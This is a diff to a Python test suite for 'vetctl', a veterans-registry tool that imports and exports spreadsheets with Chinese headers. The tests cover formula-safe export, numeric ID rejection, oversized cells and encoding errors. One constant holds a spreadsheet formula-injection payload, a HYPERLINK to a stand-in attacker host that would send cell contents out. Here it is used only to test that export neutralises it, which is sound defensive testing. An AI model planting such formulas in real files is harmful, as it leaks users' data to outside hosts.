@@ -1,5 +1,7 @@
 """vetctl import / export: xlsx and GB18030 csv with Chinese headers, bad rows reported,
-a second run creating nothing, the file's problems named in one line."""
+a second run creating nothing, the file's problems (another encoding) named in one line,
+what is exported data (never a formula), ID numbers typed as numbers and oversized cells
+refused by row."""
 import csv
 import json
 
@@ -11,6 +13,7 @@ from tests.helpers import scalar
 
 HEADERS = ["身份证号", "姓名", "手机", "县市区代码", "退役时间", "退役类型", "技能", "意愿",
            "就业状态", "服务需求", "意向职业", "最低薪资"]
+FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"点我")'
 
 
 def rows(n, bad_every=0):
@@ -128,3 +131,96 @@ def test_enterprises_import_with_founders_by_id_number(system, vetctl, tmp_path,
     again = json.loads(vetctl("--json", "import", "enterprises", path))
     assert (again["created"], again["duplicate"], again["rejected"]) == (0, 2, 2)
     assert scalar(db, "SELECT count(*) FROM registry.enterprises") == 2
+
+
+def digit_id_numbers(count):
+    """Distinct valid ID numbers of digits only (none ending in X): typeable as numbers."""
+    found = []
+    while len(found) < count:
+        found += [number for number in unique_id_numbers(count) if number.isdigit()]
+    return found[:count]
+
+
+def test_export_writes_names_that_look_like_formulas_as_text(system, vetctl, tmp_path, rpc):
+    names = [FORMULA, "+86张伟", "-李强", "@王磊"]
+    for name, number in zip(names, unique_id_numbers(len(names))):
+        rpc.registry.register_veteran(make_veteran(id_number=number, name=name))
+    xlsx, csv_path = tmp_path / "all.xlsx", tmp_path / "all.csv"
+    vetctl("export", "veterans", "--format", "xlsx", "-o", xlsx)
+    vetctl("export", "veterans", "--format", "csv", "-o", csv_path)
+    header, *written = openpyxl.load_workbook(xlsx).worksheets[0].iter_rows()
+    name = [cell.value for cell in header].index("name")
+    assert sorted((row[name].data_type, row[name].value) for row in written) == sorted(
+        ("s", n) for n in names)
+    with open(csv_path, encoding="utf-8-sig", newline="") as handle:
+        assert sorted(r["name"] for r in csv.DictReader(handle)) == sorted(
+            "'" + n for n in names)
+
+
+def test_id_numbers_typed_as_numbers_are_rejected_naming_row_and_column(system, vetctl,
+                                                                        tmp_path, db):
+    good, as_float, as_int, good_too = digit_id_numbers(4)
+    # A float as Excel keeps a number typed in a General cell (15 significant digits), an
+    # int as a program writing the number leaves it: neither is taken.
+    numbers = [good, float(as_float), int(as_int), good_too]
+    book = openpyxl.Workbook(write_only=True)
+    sheet = book.create_sheet()
+    sheet.append(HEADERS)
+    for number, row in zip(numbers, rows(4)):
+        sheet.append([number, *row[1:]])
+    xlsx = tmp_path / "名册.xlsx"
+    book.save(xlsx)
+    result = json.loads(vetctl("--json", "import", "veterans", xlsx))
+    assert (result["created"], result["rejected"]) == (2, 2)
+    with open(result["report"], encoding="utf-8-sig") as handle:
+        reported = [(r["row"], r["field"], r["message"]) for r in csv.DictReader(handle)]
+    message = "an ID number must be entered as text, not a number (Excel rounds it)"
+    assert reported == [("3", "id_number", message), ("4", "id_number", message)]
+    with db.cursor() as cur:
+        cur.execute("SELECT id_number FROM registry.veterans")
+        registered = {number for number, in cur.fetchall()}
+    assert registered == {good, good_too}  # nobody for rows 3 and 4, rounded or not
+
+    # The same as Excel saves such a cell in a CSV; an unknown header echoed as data.
+    path = tmp_path / "名册.csv"
+    with open(path, "w", encoding="utf-8", newline="") as handle:
+        writer = csv.writer(handle)
+        writer.writerow([*HEADERS, FORMULA])
+        writer.writerows([["6.52301E+17", *row[1:], "x"] for row in rows(1)])
+    result = json.loads(vetctl("--json", "import", "veterans", path))
+    assert (result["created"], result["rejected"]) == (0, 1)
+    with open(result["report"], encoding="utf-8-sig") as handle:
+        assert list(csv.reader(handle))[1:] == [
+            ["header", "'" + FORMULA, "column not recognised: ignored"],
+            ["2", "id_number", message]]
+    assert scalar(db, "SELECT count(*) FROM registry.veterans") == 2
+
+
+def test_an_oversized_cell_is_rejected_naming_its_row_and_column(system, vetctl, tmp_path,
+                                                                 db):
+    path = tmp_path / "名册.csv"
+    with open(path, "w", encoding="utf-8", newline="") as handle:
+        writer = csv.writer(handle)
+        writer.writerow(HEADERS)
+        first, second, third = rows(3)
+        writer.writerows([first, [second[0], "张" * 200_000, *second[2:]], third])
+    result = json.loads(vetctl("--json", "import", "veterans", path))
+    assert (result["created"], result["rejected"]) == (2, 1)
+    with open(result["report"], encoding="utf-8-sig") as handle:
+        (reported,) = csv.DictReader(handle)
+    assert (reported["row"], reported["field"]) == ("3", "name")
+    assert "200,000 characters" in reported["message"]
+    assert scalar(db, "SELECT count(*) FROM registry.veterans WHERE id_number = %s",
+                  second[0]) == 0
+
+
+@pytest.mark.parametrize("encoding", ["utf-16", "latin-1"])
+def test_a_csv_in_another_encoding_is_one_line_naming_the_accepted_ones(vetctl, tmp_path,
+                                                                       encoding):
+    path = tmp_path / "名册.csv"
+    text = "id_number,name\n652301199206150714,André,\n"
+    path.write_bytes(text.encode(encoding))
+    out = vetctl("import", "veterans", path, expect=1)
+    assert "accepted encodings: UTF-8 (with or without BOM), GB18030" in out
+    assert "Traceback" not in out and "UnicodeDecodeError" not in out
+    assert len(out.strip().splitlines()) == 1
